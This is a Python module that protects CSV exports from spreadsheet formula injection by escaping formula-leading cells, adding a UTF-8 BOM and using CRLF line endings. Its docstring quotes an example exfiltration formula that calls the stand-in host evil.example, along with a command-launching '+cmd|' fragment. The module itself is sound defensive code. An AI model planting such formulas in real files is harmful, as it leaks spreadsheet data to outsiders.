"""CSV as a spreadsheet reads it: cells shown as text and never run, accents read right, and every
row whole.

Excel, LibreOffice and Google Sheets evaluate a cell that starts like a formula (``=``, ``+``,
``-``, ``@``, or a tab or carriage return before one) when a CSV file is opened: an agent's input
``=HYPERLINK("http://evil.example/?leak="&A1, "details")`` would send an auditor's sheet away, and
``+cmd|...`` can start a program. Every CSV amem writes (the auditors' export, the console's audit
trail) passes its text cells through ``spreadsheet_safe``, starts with ``CSV_BOM`` and is written
by ``csv_writer``, so the two cannot drift apart; JSON Lines keeps every value exact.
"""

from __future__ import annotations

import csv
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from _csv import _writer

    from _typeshed import SupportsWrite

#: How a cell starts when a spreadsheet would read it as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: What a CSV file starts with so that a spreadsheet reads it as UTF-8: without it Excel takes the
#: machine's code page and shows "Müller" as "MÃ¼ller". Readers of CSV UTF-8 (amem's own import
#: included) skip it.
CSV_BOM = "\ufeff"


def spreadsheet_safe(text: str) -> str:
    """``text`` with a leading apostrophe where a spreadsheet would run it as a formula (the
    apostrophe marks a cell as text); every other text as it is."""
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_writer(out: SupportsWrite[str]) -> _writer:
    """A CSV writer whose rows end in CRLF (RFC 4180). The csv module quotes a cell holding a
    character of the line ending: with a bare LF ending, a cell holding a lone carriage return
    (an old Mac line break in an input) went out unquoted, and readers split its row there."""
    return csv.writer(out, lineterminator="\r\n")
